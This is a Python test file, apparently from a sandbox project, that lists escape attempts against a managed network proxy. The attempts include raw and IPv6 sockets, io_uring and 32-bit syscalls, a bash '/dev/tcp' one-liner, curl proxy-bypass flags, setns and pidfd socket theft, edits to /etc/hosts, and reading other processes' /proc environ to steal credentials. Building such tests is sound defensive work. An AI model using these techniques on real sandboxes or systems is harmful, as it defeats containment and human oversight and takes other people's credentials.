"""Attempts to reach something past the managed proxy, or with what it gave to another command.

Each is made by a command that has the proxy, and shown without a sandbox and with a proxy that can be misled.
"""

import time
from pathlib import Path

from tests.sandbox.attempts import Attempt, Check, Host, says, sh, state
from tests.sandbox.escapes_network import FOREIGN_CALL, URING, hands_out_a_network, table_of_32, uring
from tests.sandbox.forbidden import around, other_address, world
from tests.sandbox.needs import SYS_ADMIN, capability, program, root, x86_64
from tests.sandbox.talking import FINE, V6, ask, direct, get


def tells_of_bridge(host: Host) -> Check:
    """A process of the host's that holds a listening socket, as something of a bridge would be held."""
    world(host)
    hands_out_a_network(host)
    return says(host)


def beside_a_victim(host: Host) -> Check:
    """A process of the host's beside the forbidden servers."""
    host.victim()
    return around(host)


def found_credential(host: Host) -> Check:
    """A command of somebody else, with a credential of its own in its environment."""
    check = around(host)
    host.victim(env={"HTTP_PROXY": f"http://{host.env['OTHERS_CREDENTIAL']}@127.0.0.1:1"})
    return check


def kept_names(host: Host) -> Check:
    """Nobody's names may be changed either."""
    check = around(host)
    before = state(*map(Path, NAME_FILES))
    return lambda outcome: state(*map(Path, NAME_FILES)) != before or check(outcome)


NAME_FILES = ("/etc/hosts", "/etc/resolv.conf", "/etc/nsswitch.conf")


def late(host: Host) -> Check:
    """The attempt succeeds if somebody asks the allowed server for something after the command has ended."""
    made = world(host)

    def check(_: object) -> bool:
        before, until = len(made.site.paths), time.monotonic() + 1
        while len(made.site.paths) == before and time.monotonic() < until:
            time.sleep(0.02)
        return len(made.site.paths) > before

    return check


def has_other() -> str | None:
    """An address of this machine besides its loopback."""
    return None if other_address() else "this machine has no address but its loopback"


FETCH = 'import urllib.request; print(urllib.request.urlopen(f"http://127.0.0.1:{PORT}/", timeout=5).read())'

PAST_THE_PROXY = [
    direct("connect by IPv4", 'socket.create_connection(("127.0.0.1", PORT))'),
    direct("connect by IPv6", 'socket.socket(socket.AF_INET6).connect(("::1", PORT))', needs=V6),
    direct("connect to another address of the machine", "socket.create_connection((OTHER, PORT))", needs=(has_other,)),
    direct("connect to no address at all", 'socket.create_connection(("0.0.0.0", PORT))'),
    direct("connect to a mapped address", 'socket.socket(10).connect(("::ffff:127.0.0.1", PORT))', needs=V6),
    direct("connect to the allowed server itself", 'socket.create_connection(("127.0.0.2", PORT))\nescaped()'),
    direct(
        "connect without waiting",
        's = socket.socket(); s.setblocking(False); s.connect_ex(("127.0.0.1", PORT)); time.sleep(0.2)',
    ),
    direct(
        "connect while the address changes",
        """
        import threading
        sys.setswitchinterval(1e-5)
        def at(port): return struct.pack("=H", 2) + struct.pack(">H4s8x", port, b"\\x7f\\0\\0\\1")
        address, running = ctypes.create_string_buffer(at(PORT), 16), True
        def change():
            while running:
                for port in (PROXY[1], PORT):
                    ctypes.memmove(address, at(port), 16)
        thread = threading.Thread(target=change)
        thread.start()
        seen = {port: 0 for port in (PROXY[1], PORT)}
        while min(seen.values()) < 150:  # however seldom the other thread gets its turn
            seen[struct.unpack_from(">H", address, 2)[0]] += 1
            with socket.socket() as one:
                libc.connect(one.fileno(), address, 16)
        running = False
        thread.join()
        """,
    ),
    direct("connect by the first message", 's = socket.socket(); s.sendto(b"evil", 0x20000000, ("127.0.0.1", PORT))'),
    direct(
        "connect by the first message with sendmsg",
        's = socket.socket(); s.sendmsg([b"evil"], [], 0x20000000, ("127.0.0.1", PORT))',
    ),
    direct(
        "connect later than it seems",
        """
        def later(port):
            with socket.socket() as s:
                s.setsockopt(6, 30, 1)
                s.connect(("127.0.0.1", port))
                s.sendmsg([b"evil"], [], 0x20000000, ("127.0.0.1", PORT))
                time.sleep(0.1)
        each(lambda: later(PROXY[1]), lambda: later(PORT))
        """,
    ),
    direct(
        "connect again where it was connected",
        """
        s = socket.create_connection(PROXY)
        each(lambda: lib("connect", s.fileno(), bytes(16), 16))
        s.connect(("127.0.0.1", PORT))
        """,
    ),
    direct("connect by multipath TCP", 'socket.socket(2, 1, 262).connect(("127.0.0.1", PORT))'),
    direct(
        "connect by io_uring",
        URING,
        """
        ring = Ring()
        fd = ring.run(45, socket.AF_INET, offset=socket.SOCK_STREAM)
        ring.run(16, fd, pointer(struct.pack("=H", 2) + struct.pack(">H4s8x", PORT, b"\\x7f\\0\\0\\1")), offset=16)
        """,
        needs=(uring,),
    ),
    direct(
        "connect by the calls of 32-bit programs",
        FOREIGN_CALL,
        """
        low = mmap.mmap(-1, 4096, prot=3, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | 0x40)
        low[:16] = struct.pack("=H", 2) + struct.pack(">H4s8x", PORT, b"\\x7f\\0\\0\\1")
        foreign(362, foreign(359, 2, 1, 0), ctypes.addressof(ctypes.c_char.from_buffer(low)), 16)
        """,
        needs=(x86_64, table_of_32),
    ),
    Attempt(
        name="connect by a shell",
        program=sh('bash -c "echo evil >/dev/tcp/127.0.0.1/$PORT"'),
        prepare=around,
        needs=(program("bash"),),
    ),
    direct("send a datagram", 'socket.socket(2, 2).sendto(b"evil", ("127.0.0.1", PORT))'),
    direct("send a datagram by IPv6", 'socket.socket(10, 2).sendto(b"evil", ("::1", PORT))', needs=V6),
    direct("send a datagram to another address", 'socket.socket(2, 2).sendto(b"x", (OTHER, PORT))', needs=(has_other,)),
    direct(
        "send a datagram that is made by hand",
        """
        raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_UDP)
        raw.sendto(struct.pack(">HHHH", 4000, PORT, 12, 0) + b"evil", ("127.0.0.1", 0))
        """,
        needs=(root,),
    ),
    direct(
        "look the forbidden server up in the kernel",
        """
        diag = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 4)
        request = struct.pack("=BBBxI", 2, 6, 0, 1 << 10) + bytes(48)
        diag.send(struct.pack("=IHHII", 16 + len(request), 20, 0x301, 1, 0) + request)
        diag.settimeout(2)
        while b"\\x03\\0" != (data := diag.recv(65536))[4:6]:
            while len(data) >= 16:
                size = struct.unpack_from("=I", data)[0]
                if struct.unpack_from(">H", data, 20)[0] == PORT:
                    escaped()
                data = data[(size + 3) & ~3:]
        """,
    ),
    direct("connect to a local service", "socket.socket(socket.AF_UNIX).connect(SOCKET)"),
    direct("connect to an abstract local service", 'socket.socket(socket.AF_UNIX).connect("\\0" + SOCKET)'),
    direct(
        "ask the proxy for a local service",
        'say(b"GET http://allowed.test:<PORT>/ HTTP/1.1\\r\\nHost: allowed.test:<PORT>\\r\\nConnection: close\\r\\n"\n'
        '    b"X-Unix-Socket: " + SOCKET.encode() + b"\\r\\n<AUTH>\\r\\n\\r\\n")',
    ),
    direct(
        "enter the network of another process",
        """
        for pid in (VICTIM, 1, 2, os.getppid()):
            each(lambda: lib("setns", os.open(f"/proc/{pid}/ns/net", os.O_RDONLY), 0))
        socket.create_connection(("127.0.0.1", PORT))
        """,
        prepare=beside_a_victim,
        needs=(capability(SYS_ADMIN),),
    ),
    direct(
        "take a socket of the bridge from whoever holds one",
        """
        own = os.getpid()
        for pid in {VICTIM, *(int(name) for name in os.listdir("/proc") if name.isdigit())} - {own}:
            try:
                process = call(434, pid, 0)
            except OSError:
                continue
            for number in range(3, 64):
                try:
                    with socket.socket(fileno=call(438, process, number, 0)) as taken:
                        print(pid, number, taken)
                        escaped()
                except OSError:
                    pass
        """,
        prepare=tells_of_bridge,
    ),
    direct(
        "open what other processes of the sandbox have open",
        """
        for name in os.listdir("/proc"):
            if not name.isdigit() or int(name) == os.getpid():
                continue
            try:
                numbers = os.listdir(f"/proc/{name}/fd")
            except OSError:
                continue
            for number in numbers:
                try:
                    if "socket:" in os.readlink(f"/proc/{name}/fd/{number}"):
                        escaped()
                except OSError:
                    pass
        """,
        prepare=tells_of_bridge,
        needs=(root,),
    ),
    direct(
        "find a socket among its own descriptors",
        """
        import threading
        held = [socket.socket()] if not os.environ.get("CONFINED") else []
        for number in os.listdir("/proc/self/fd"):
            try:
                if "socket:" in os.readlink(f"/proc/self/fd/{number}"):
                    escaped()
            except OSError:
                pass
        """,
        prepare=tells_of_bridge,
    ),
    direct(
        "take the proxy's place",
        """
        for address in ("127.0.0.1", "0.0.0.0"):
            for option in (socket.SO_REUSEADDR, socket.SO_REUSEPORT):
                def bind():
                    with socket.socket() as s:
                        s.setsockopt(socket.SOL_SOCKET, option, 1)
                        s.bind((address, PROXY[1] if os.environ.get("CONFINED") else 0))
                        s.listen()
                        escaped()
                each(bind)
        """,
    ),
    direct("do without the variables", "for name in [*os.environ]: os.environ.pop(name)\n" + FETCH),
    direct("tell programs to do without the proxy", 'os.environ["NO_PROXY"] = os.environ["no_proxy"] = "*"\n' + FETCH),
    Attempt(
        name="tell curl to do without the proxy",
        program=sh(
            """
            curl -s -m 5 --noproxy '*' http://127.0.0.1:$PORT/
            curl -s -m 5 --proxy '' --resolve allowed.test:$PORT:127.0.0.1 http://allowed.test:$PORT/
            NO_PROXY='*' no_proxy='*' curl -s -m 5 --interface lo http://127.0.0.1:$PORT/
            """
        ),
        prepare=around,
        needs=(program("curl"),),
    ),
    Attempt(
        name="tell curl to connect elsewhere",
        program=sh(
            """
            for way in "--connect-to allowed.test:$PORT:127.0.0.1:$PORT" "--resolve allowed.test:$PORT:127.0.0.1"; do
                curl -s -m 5 -x "$HTTP_PROXY" $way http://allowed.test:$PORT/ -H "Host: forbidden.test:$PORT"
                curl -s -m 5 -p -x "$HTTP_PROXY" $way http://allowed.test:$PORT/
            done
            """
        ),
        prepare=around,
        needs=(program("curl"),),
    ),
    direct(
        "give the names of the proxy other addresses",
        f"""
        for path in {NAME_FILES!r}:
            def change():
                with open(path, "a") as file:
                    file.write("127.0.0.1 allowed.test\\nnameserver 127.0.0.1\\n")
            if os.environ.get("CONFINED"):
                each(change)
        os.environ["HOSTALIASES"] = WORK + "/aliases"
        open(WORK + "/aliases", "w").write("allowed.test forbidden.test\\n")
        say({get(FINE, "forbidden.test:<PORT>")!r})
        """,
        prepare=kept_names,
    ),
    direct(
        "go on when the command has ended",
        f"""
        if os.fork() == 0:
            os.setsid()
            if os.fork() == 0:
                null = os.open("/dev/null", os.O_RDWR)
                for fd in range(3):
                    os.dup2(null, fd)
                while True:
                    each(lambda: say({get(FINE)!r}))
                    time.sleep(0.05)
            os._exit(0)
        """,
        prepare=late,
        control="plain",
    ),
]

CREDENTIALS = [
    ask("show no credential", b"GET http://forbidden.test:<PORT>/ HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n"),
    direct(
        "show the credential of another command",
        f"""
        for target in ("forbidden.test", "127.0.0.1"):
            request = {get("http://TARGET:<PORT>/")!r}.replace(b"TARGET", target.encode())
            say(request, credential=os.environ["OTHERS_CREDENTIAL"])
            socks(target.encode(), credential=os.environ["OTHERS_CREDENTIAL"])
        """,
    ),
    direct(
        "find the credential of another command",
        f"""
        import glob
        for path in {{f"/proc/{{VICTIM}}/environ", *glob.glob("/proc/[0-9]*/environ")}}:
            try:
                found = re.search(rb"turnloom:([^@]+)@", open(path, "rb").read())
            except OSError:
                continue
            if found and found[1].decode() not in CREDENTIAL:
                say({get("http://forbidden.test:<PORT>/")!r}, credential="turnloom:" + found[1].decode())
            elif found and not os.environ.get("CONFINED"):
                say({get("http://forbidden.test:<PORT>/")!r})
        """,
        prepare=found_credential,
    ),
    direct("guess a credential", f'say({get("http://forbidden.test:<PORT>/")!r}, credential="turnloom:")'),
    ask(
        "show two credentials",
        get("http://forbidden.test:<PORT>/", None, "Proxy-Authorization: Basic dHVybmxvb206eA=="),
    ),
]

ATTEMPTS = [*PAST_THE_PROXY, *CREDENTIALS]
